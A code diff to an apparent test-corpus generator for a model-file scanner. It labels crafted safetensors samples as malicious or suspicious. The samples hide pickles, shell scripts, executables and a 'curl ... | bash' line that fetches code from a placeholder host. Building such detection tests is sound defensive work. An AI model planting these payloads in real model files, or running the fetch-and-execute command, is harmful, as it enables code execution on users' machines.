@@ -77,8 +77,8 @@ def ggufs(corpus):
 
 
 def tensors(corpus):
-    def add(kind, data, why, name="model.safetensors"):
-        corpus.add(kind, "safetensors", name, data, why)
+    def add(kind, data, why, name="model.safetensors", label="malicious"):
+        corpus.add(kind, "safetensors", name, data, why, label)
 
     from .graphs import ELF
     from .misc_bytes import MACHO, PE, SHELLCODE
@@ -87,10 +87,10 @@ def tensors(corpus):
     add("safetensors-gap", safetensors(one, chance.randbytes(256) + system("true", 4)), "a pickle behind the tensors")
     add("safetensors-gap", safetensors(one, chance.randbytes(256) + b"#!/bin/sh\ntrue\n"), "a script behind the tensors")
     add("safetensors-gap", safetensors({"a": {"dtype": "U8", "shape": [64], "data_offsets": [0, 64]}, "b": {"dtype": "U8", "shape": [64], "data_offsets": [64 + len(ELF), 128 + len(ELF)]}}, bytes(64) + ELF + bytes(64)), "a library between two tensors")
-    add("safetensors-gap", safetensors({"a": {"dtype": "F32", "shape": [16], "data_offsets": [0, 64]}, "b": {"dtype": "F32", "shape": [16], "data_offsets": [32, 96]}}, bytes(96)), "two tensors overlap")
-    add("safetensors-gap", safetensors({"a": {"dtype": "F32", "shape": [1 << 40], "data_offsets": [0, 1 << 42]}}, bytes(64)), "a tensor far out of the file")
-    add("safetensors-gap", safetensors(b'{"w":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"w":{"dtype":"U8","shape":[4],"data_offsets":[4,8]}}', bytes(8)), "a tensor that is there twice")
-    add("safetensors-gap", safetensors(one, bytes(256), size=1 << 60), "a header longer than the file")
+    add("safetensors-gap", safetensors({"a": {"dtype": "F32", "shape": [16], "data_offsets": [0, 64]}, "b": {"dtype": "F32", "shape": [16], "data_offsets": [32, 96]}}, bytes(96)), "two tensors overlap", label="suspicious")
+    add("safetensors-gap", safetensors({"a": {"dtype": "F32", "shape": [1 << 40], "data_offsets": [0, 1 << 42]}}, bytes(64)), "a tensor far out of the file", label="suspicious")
+    add("safetensors-gap", safetensors(b'{"w":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"w":{"dtype":"U8","shape":[4],"data_offsets":[4,8]}}', bytes(8)), "a tensor that is there twice", label="suspicious")
+    add("safetensors-gap", safetensors(one, bytes(256), size=1 << 60), "a header longer than the file", label="suspicious")
     for number, (where, what) in enumerate([(0, ELF), (0, PE), (0, MACHO), (333, ELF), (700, PE), (512, MACHO), (64, b"#!/bin/bash\ncurl -s http://corpus.example/x | bash\n")]):
         data = chance.randbytes(where) + what
         data += chance.randbytes(2048 - len(data))
